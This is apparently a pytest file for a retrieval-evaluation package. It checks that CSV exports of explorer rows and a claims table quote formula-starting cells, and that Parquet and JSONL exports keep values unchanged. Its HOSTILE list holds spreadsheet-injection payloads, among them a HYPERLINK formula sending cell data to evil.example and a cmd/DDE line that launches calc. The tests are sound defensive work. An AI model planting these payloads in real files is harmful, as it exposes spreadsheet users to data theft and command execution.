"""CSV files this package writes (the explorer's rows, the claims table) open in spreadsheets, which
run a cell starting with = + - @ (or a tab / carriage return) as a formula: such a text cell gets a
leading single quote in CSV only. Numbers stay numbers, a text that is a plain number stays as it
is, and Parquet / JSONL keep every value unchanged."""

import csv

import pandas as pd
import pyarrow as pa
import pytest

import ragwidgets as rw
from ragwidgets.datasets import synthetic_run
from ragwidgets.engine.claims import csv_text

HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def records():
    out = synthetic_run(8, seed=4)
    for r, text in zip(out, HOSTILE):
        r["query"] = text
        r["response"] = text
        if r["response_claims"]:
            r["response_claims"][0] = [text, "is", "x"]
    out[6]["query_id"] = "-5"  # a text that is a plain number: no formula, kept
    out[7]["query"] = "a = b + c"  # a formula character further in: kept
    return out


def cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_csv_text_quotes_what_a_spreadsheet_would_run():
    values = pa.array([*HOSTILE, "-5", "+1.5e3", ".5", "-", "=", "plain", "a=b", "", None], type=pa.large_string())
    assert csv_text(values).to_pylist() == [*("'" + v for v in HOSTILE), "-5", "+1.5e3", ".5", "'-", "'=", "plain",
                                           "a=b", "", None]
    assert csv_text(pa.array(["=1"], type=pa.string())).to_pylist() == ["'=1"]


def test_the_explorers_rows_as_csv_neutralise_formulas_and_keep_numbers(records, tmp_path):
    x = rw.DatasetExplorer(records)
    x.export_rows(tmp_path / "rows.csv")
    rows = cells(tmp_path / "rows.csv")
    header, body = rows[0], rows[1:]
    assert len(body) == len(records) and {len(r) for r in body} == {len(header)}  # a cell's \r did not end its row
    query = [r[header.index("query")] for r in body]
    for text in HOSTILE:
        assert "'" + text in query and text not in query
    assert "a = b + c" in query
    assert "-5" in [r[header.index("query_id")] for r in body]
    back = pd.read_csv(tmp_path / "rows.csv")
    assert all(back[m].dtype == float for m in x.metrics) and back["n_passages"].dtype == int  # numbers stay numbers
    x.export_rows(tmp_path / "rows.parquet")
    kept = pd.read_parquet(tmp_path / "rows.parquet")
    assert set(HOSTILE) <= set(kept["query"])  # Parquet: unchanged


def test_the_claims_table_as_csv_neutralises_formulas_jsonl_and_parquet_do_not(records, tmp_path):
    scores = rw.evaluate(records)
    for suffix in (".csv", ".jsonl", ".parquet"):
        scores.to_claims(tmp_path / f"claims{suffix}")
    rows = cells(tmp_path / "claims.csv")
    text = [r[rows[0].index("text")] for r in rows[1:]]
    written = {t for t in text if t[:1] in "=+-@\t\r'"}
    assert written and all(t.startswith("'") for t in written)
    assert "'" + HOSTILE[0] + " is x" in text
    back = pd.read_csv(tmp_path / "claims.csv")
    assert back["claim"].dtype == int and set(back["faithful"].dropna()) == {True, False}  # numbers, flags as they are
    assert HOSTILE[0] + " is x" in set(pd.read_json(tmp_path / "claims.jsonl", lines=True)["text"])
    assert HOSTILE[0] + " is x" in set(pd.read_parquet(tmp_path / "claims.parquet")["text"])
